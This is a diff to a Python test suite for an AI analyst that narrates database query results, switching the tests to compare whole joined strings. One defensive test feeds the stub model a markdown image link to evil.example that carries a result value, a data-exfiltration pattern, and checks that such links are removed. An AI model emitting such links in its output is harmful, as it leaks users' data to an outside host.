@@ -6,6 +6,7 @@ from agent.analyst import Draft, Intent, Setback, Story, Usage
 from agent.errors import AnalystConfused, AnalystUnavailable
 from agent.manner import Manner
 from agent.model_analyst import ModelAnalyst
+from agent.model_stream import MOST_SAID
 from agent.models import open_model
 from agent.prompts import render
 from store.rows import RowColumn, Rows
@@ -15,8 +16,8 @@ from tests.stub_model import Reply, StubModel, form, running_stub, words
 SQL = "SELECT count(*) AS customers FROM customers WHERE city = 'Berlin'"
 
 
-async def said(analyst: ModelAnalyst, story: Story) -> list[str]:
-    return [piece async for piece in analyst.narrate(story)]
+async def said(analyst: ModelAnalyst, story: Story) -> str:
+    return "".join([piece async for piece in analyst.narrate(story)])
 
 
 async def understood(analyst: ModelAnalyst, question: str) -> Intent:
@@ -151,7 +152,7 @@ async def test_a_draft_given_again_and_again_is_recognised_by_its_text(
 async def test_words_are_passed_on_as_they_come(stub: StubModel, analyst: ModelAnalyst) -> None:
     stub.replies.append(words("There are 12 customers."))
 
-    assert await said(analyst, story()) == ["There", " are", " 12", " customers."]
+    assert await said(analyst, story()) == "There are 12 customers."
     [prompt] = stub.prompts()
     assert '["customers"]\n[12]' in prompt
 
@@ -160,23 +161,23 @@ async def test_the_first_words_do_not_wait_for_the_last(stub: StubModel, analyst
     stub.replies.append(Reply(["There", " are", " 12", " customers."], fault="stall"))
     pieces = analyst.narrate(story())
 
-    assert await anext(pieces) == "There"
+    assert "There are 12 customers.".startswith(await anext(pieces))
     stub.release.set()
 
 
 async def test_thinking_aloud_is_not_answering(stub: StubModel, analyst: ModelAnalyst) -> None:
     stub.replies.append(Reply(["<th", "ink>\nThey ask", " for…", "</think>\n\n", "There are", " 12."]))
 
-    assert await said(analyst, story()) == ["There are", " 12."]
+    assert await said(analyst, story()) == "There are 12."
 
 
 async def test_a_cut_result_is_said_to_be_cut(stub: StubModel, analyst: ModelAnalyst) -> None:
     stub.replies.append(words("Many."))
     rows = Rows((RowColumn("id", "integer"),), tuple((n,) for n in range(1000)), truncated=True)
 
-    pieces = await said(analyst, story(rows=rows))
+    told = await said(analyst, story(rows=rows))
 
-    assert pieces[-1] == "\n\nThese are only the first 1,000 rows; there are more."
+    assert told.endswith("\n\nThese are only the first 1,000 rows; there are more.")
     assert "[19]" in stub.prompts()[0]
     assert "[20]" not in stub.prompts()[0]
 
@@ -192,13 +193,13 @@ async def test_an_empty_result_is_told_to_the_model_as_empty(stub: StubModel, an
 async def test_a_model_without_words_leaves_the_bare_facts(stub: StubModel, analyst: ModelAnalyst) -> None:
     stub.replies.append(Reply(tool={"name": "answer", "fields": {}}))
 
-    assert await said(analyst, story()) == ["customers: 12"]
+    assert await said(analyst, story()) == "customers: 12"
 
 
 async def test_rows_stay_at_home_when_told_so(stub: StubModel) -> None:
     async with open_model("stub", stub.url, None, 2.0) as model:
         analyst = ModelAnalyst(model, manner=Manner(rows_to_model=False))
-        assert await said(analyst, story()) == ["customers: 12"]
+        assert await said(analyst, story()) == "customers: 12"
     assert stub.requests == []
 
 
@@ -214,7 +215,7 @@ async def test_rows_stay_at_home_when_told_so(stub: StubModel) -> None:
 async def test_other_endings_need_no_model(
     stub: StubModel, analyst: ModelAnalyst, ending: Story, expected: str
 ) -> None:
-    assert "".join(await said(analyst, ending)) == expected
+    assert await said(analyst, ending) == expected
     assert stub.requests == []
 
 
@@ -223,11 +224,8 @@ async def test_what_the_database_holds_is_described_from_the_map(
 ) -> None:
     stub.replies.append(words("Customers and orders."))
 
-    pieces = await said(
-        analyst, story("described", draft=None, rows=None, intent=Intent("schema", "what is there?"))
-    )
-
-    assert "".join(pieces) == "Customers and orders."
+    asked = story("described", draft=None, rows=None, intent=Intent("schema", "what is there?"))
+    assert await said(analyst, asked) == "Customers and orders."
     assert "public.orders: id, customer_id (→ public.customers), total. Purchases" in stub.prompts()[0]
 
 
@@ -303,13 +301,13 @@ async def test_an_answer_that_ran_out_of_room_is_shown_as_unfinished(
 ) -> None:
     stub.replies.append(Reply(["There", " are"], finish="length"))
 
-    assert "".join(await said(analyst, story())) == "There are …"
+    assert await said(analyst, story()) == "There are …"
 
 
 async def test_an_endless_answer_is_stopped(stub: StubModel, analyst: ModelAnalyst) -> None:
     stub.replies.append(Reply(["and so on "] * 5_000))
 
-    assert len("".join(await said(analyst, story()))) < 9_000
+    assert await said(analyst, story()) == ("and so on " * 5_000)[:MOST_SAID] + " …"
 
 
 @pytest.mark.parametrize("status", [401, 403, 404, 429, 500, 503])
@@ -347,7 +345,7 @@ async def test_links_and_images_never_reach_a_person(stub: StubModel, analyst: M
         Reply(["See ![x", "](http", "://evil.example/?d=12", ") or [here", "](https://evil.example)."])
     )
 
-    reply = "".join(await said(analyst, story()))
+    reply = await said(analyst, story())
 
     assert "](" not in reply
     assert "![" not in reply
